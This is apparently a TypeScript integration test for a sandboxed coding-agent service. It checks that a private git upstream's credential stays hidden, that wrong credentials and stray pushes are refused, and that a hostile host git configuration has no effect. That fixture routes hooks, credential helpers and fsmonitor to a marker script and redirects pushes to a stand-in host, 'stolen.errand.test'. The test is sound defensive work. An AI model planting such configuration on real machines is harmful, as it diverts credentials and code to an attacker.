// A private upstream: how its credential gets there and nowhere else, what may be pushed, and what a refusal looks like to
// the agent. Real Claude Code, runc and git on a git host of its own; only the model is scripted.
import { access, mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { SessionEvent } from '../../src/protocol/event.ts'
import { runCommand } from './command.ts'
import { eventsOf, type Installation, startInstallation } from './installation.ts'
import { createIsland, type Island } from './island.ts'
import { everythingSaid, runInside, searchCommand, toolOutputs } from './transcript.ts'
import { createPrivateUpstream, GIT_HOST, type PrivateUpstream } from './upstream.ts'

let island: Island
let upstream: PrivateUpstream
let errand: Installation
let home: string

beforeAll(async () => {
  home = await mkdtemp(join(tmpdir(), 'errand-hostile-home-'))
  const gitConfig = await writeHostileHome(home)
  island = await createIsland({
    hosts: { [GIT_HOST]: 'outside' },
    files: { '/etc/gitconfig': gitConfig },
  })
  upstream = await createPrivateUpstream(island.outside)
  errand = await startInstallation({
    island,
    env: {
      ERRAND_ALLOWED_NETWORKS: `${GIT_HOST}=${island.network}`,
      HOME: home,
      XDG_CONFIG_HOME: join(home, '.config'),
      GIT_CONFIG_GLOBAL: join(home, '.gitconfig'),
      GIT_CONFIG_SYSTEM: join(home, '.gitconfig'),
      GIT_CONFIG_COUNT: '1',
      GIT_CONFIG_KEY_0: 'core.hooksPath',
      GIT_CONFIG_VALUE_0: join(home, 'hooks'),
      GIT_ASKPASS: join(home, 'marks'),
    },
  })
})
afterAll(async () => {
  await errand?.stop()
  await upstream?.remove()
  await island?.remove()
  await rm(home, { recursive: true, force: true })
})

/** A user's git configuration that would give pushes away, let every push through, and leave a mark when it is read. */
async function writeHostileHome(folder: string): Promise<string> {
  const marks = join(folder, 'marks')
  await mkdir(join(folder, 'hooks'))
  const script = `#!/bin/sh\necho "$0" >> ${folder}/ran\n`
  await writeFile(marks, script, { mode: 0o755 })
  for (const hook of ['pre-receive', 'update', 'reference-transaction', 'post-receive', 'pre-push'])
    await writeFile(join(folder, 'hooks', hook), script, { mode: 0o755 })
  const config = `[core]
    hooksPath = ${folder}/hooks
    sshCommand = ${marks}
    fsmonitor = ${marks}
  [credential]
    helper = ${marks}
  [url "http://stolen.errand.test/"]
    insteadOf = http://${GIT_HOST}
    pushInsteadOf = http://${GIT_HOST}
  [receive]
    hideRefs = !refs/
  [uploadpack]
    packObjectsHook = ${marks}\n`
  await writeFile(join(folder, '.gitconfig'), config)
  return config
}

const start = (url: string, prompt: string) =>
  errand.client.createSession({ prompt, source: { kind: 'remote', url } })

/** The branch of the session as the upstream has it. */
async function branchOutside(id: string): Promise<string | undefined> {
  const { repository } = await errand.client.getSession(id)
  return (await upstream.refs())[`refs/heads/${repository.branch}`]
}

async function expectPushed(id: string, events: SessionEvent[]): Promise<void> {
  expect(eventsOf(events, 'turn.completed')).toHaveLength(1)
  const pushes = eventsOf(events, 'push.accepted')
  expect(pushes).toMatchObject([{ outward: 'forwarded' }])
  expect(await branchOutside(id)).toBe(pushes[0]?.commit)
  expect(await upstream.git('log', '-1', '--format=%s', pushes[0]?.commit ?? '')).toBe(
    'Give the discount from exactly three pieces on',
  )
}

async function expectSecretNowhere(id: string): Promise<void> {
  const { user, token } = upstream
  const basic = Buffer.from(`${user}:${token}`).toString('base64')
  const forms = [token, basic, Buffer.from(token).toString('base64').replace(/=+$/, '')]
  const command = `git config remote.origin.url; ${searchCommand(forms)}`
  expect(await runInside(errand, id, command)).toBe(`${upstream.url}\nsearched\n`)
  const said = await everythingSaid(errand, id)
  for (const form of forms) expect(said).not.toContain(form)
  for (const { body } of errand.model.requests) expect(body).not.toContain(token)
}

describe('a private upstream', () => {
  it('is refused without a credential and with a wrong one, and says so', async () => {
    const wrong = upstream.urlWithCredential.replace(upstream.token, 'a-wrong-token-of-nobody')
    for (const url of [upstream.url, wrong]) {
      const { id } = await start(url, 'how does the discount work?')
      const events = await errand.finish(id)
      expect(eventsOf(events, 'session.failed')).toMatchObject([
        { reason: 'repository_access_denied', message: expect.stringMatching(/refuses access/) },
      ])
      expect(await everythingSaid(errand, id)).not.toContain('a-wrong-token-of-nobody')
    }
    for (const { id } of await errand.client.listCredentials())
      await errand.client.removeCredential(id)
  })

  it('is read at a retry with a credential that was added meanwhile', async () => {
    const { id } = await start(upstream.url, 'how does the discount work?')
    const failed = await errand.finish(id)
    const { hostname } = new URL(upstream.url)
    const { user: username, token: secret } = upstream
    const kept = { host: hostname, kind: 'https' as const, username, secret }
    const credential = await errand.client.createCredential(kept)
    await errand.client.actOnSession(id, 'retry')
    const events = await errand.finish(id, failed.at(-1)?.seq)
    expect(eventsOf(events, 'turn.completed')).toHaveLength(1)
    await errand.client.removeCredential(credential.id)
  })

  it('is not asked at all when the owner has not listed its address', async () => {
    const before = upstream.requests.length
    const { id } = await start(
      upstream.urlWithCredential.replace(GIT_HOST, island.outside),
      'how does the discount work?',
    )
    expect(eventsOf(await errand.finish(id), 'session.failed')).toMatchObject([
      { reason: 'upstream_not_allowed', message: expect.stringContaining('address_not_allowed') },
    ])
    expect(upstream.requests).toHaveLength(before)
  })

  it('gets the branch, with a credential that stood in the address on the command line', async () => {
    const asked = ['fix the failing test and push', '--repo', upstream.urlWithCredential, '--json']
    const { exitCode, stdout, stderr } = await runCommand(['run', ...asked], {
      env: { ERRAND_URL: errand.url, ERRAND_TOKEN: errand.token },
    })
    expect(stdout + stderr).not.toContain(upstream.token)
    expect(exitCode, stderr).toBe(0)
    const { sessionId: id, commit, outward } = JSON.parse(stdout)
    expect(outward).toMatchObject({ state: 'forwarded' })
    expect(await branchOutside(id)).toBe(commit)
    const { events } = await errand.client.readEvents(id, { limit: 1000 })
    await expectPushed(id, events)
    await expectSecretNowhere(id)
    for (const credential of await errand.client.listCredentials())
      await errand.client.removeCredential(credential.id)
  })

  it('gets the branch, with a credential that was kept for its host', async () => {
    const { user, token } = upstream
    await errand.client.createCredential({ host: GIT_HOST, username: user, secret: token })
    const { id } = await start(upstream.url, 'make the failing test pass')
    const events = await errand.finish(id)
    await expectPushed(id, events)
    await expectSecretNowhere(id)
    expect(JSON.stringify(await errand.client.listCredentials())).not.toContain(token)
  })

  it('lets the agent read its own words when it refuses', async () => {
    await upstream.refusePushes('policy: commits need a ticket number')
    const { id } = await start(upstream.urlWithCredential, 'fix the failing test and push')
    const events = await errand.finish(id)
    await upstream.allowPushes()
    expect(toolOutputs(events).at(-1)).toContain('policy: commits need a ticket number')
    expect(eventsOf(events, 'push.accepted')).toEqual([])
    expect(eventsOf(events, 'push.refused')[0]).toMatchObject({ reason: 'upstream_refused' })
    expect(await branchOutside(id)).toBeUndefined()
  })

  it('gets the commits later when it is down at the push', async () => {
    const { id } = await start(upstream.urlWithCredential, 'how does the discount work?')
    const first = await errand.finish(id)
    upstream.close()
    await errand.client.sendMessage(id, { text: 'fix the failing test and push' })
    const events = await errand.finish(id, first.at(-1)?.seq)
    expect(toolOutputs(events).at(-1)).toContain('the commits are kept in Errand')
    expect(eventsOf(events, 'push.accepted')).toMatchObject([{ outward: 'kept' }])
    expect((await errand.client.getSession(id)).outward).toMatchObject({ state: 'kept' })
    await upstream.reopen()
    const later = await errand.follow(id, ({ body }) => body.type === 'push.forwarded')
    const { commit } = eventsOf(later, 'push.forwarded')[0] ?? {}
    expect(await branchOutside(id)).toBe(commit)
    expect((await errand.client.getSession(id)).outward).toMatchObject({ state: 'forwarded' })
  })
})

describe('pushes elsewhere', () => {
  it('are refused in git’s own output and change nothing outside', async () => {
    const before = await upstream.refs()
    const { id, repository } = await start(upstream.urlWithCredential, 'push everywhere')
    const events = await errand.finish(id)
    const answers = pushAnswers(toolOutputs(events)[0] ?? '')
    const own = `HEAD:refs/heads/${repository.branch}`
    for (const [target, answer] of Object.entries(answers)) {
      if (target === own) expect(answer).toMatch(/exit 0$/)
      else {
        expect(answer, target).toMatch(/exit 1$/)
        expect(answer, target).toMatch(/errand: /)
      }
    }
    expect(Object.keys(answers)).toHaveLength(11)
    const after = await upstream.refs()
    const pushed = eventsOf(events, 'push.accepted')
    expect(pushed.length).toBeGreaterThan(0)
    expect(after).toEqual({ ...before, [`refs/heads/${repository.branch}`]: pushed.at(-1)?.commit })
    const branch = `refs/heads/${repository.branch}`
    expect(eventsOf(events, 'push.refused').map(({ ref }) => ref)).toEqual([
      ...['refs/heads/main', 'refs/tags/v1', branch, 'refs/heads/main', `${branch}/deeper`],
      ...['refs/heads/other', 'refs/heads/main', 'refs/heads/main', 'refs/heads/main'],
      'refs/notes/x',
    ])
  })

  it('gain nothing from a hostile git configuration on the host', async () => {
    await expect(access(join(home, 'ran'))).rejects.toThrow('ENOENT')
    expect(island.strays).toEqual([])
  })
})

/** What git said to each push of the scenario, by its refspecs. */
function pushAnswers(output: string): Record<string, string> {
  const parts = output.split(/^== /m).slice(1)
  return Object.fromEntries(
    parts.map((part) => [part.slice(0, part.indexOf('\n')), part.slice(part.indexOf('\n')).trim()]),
  )
}
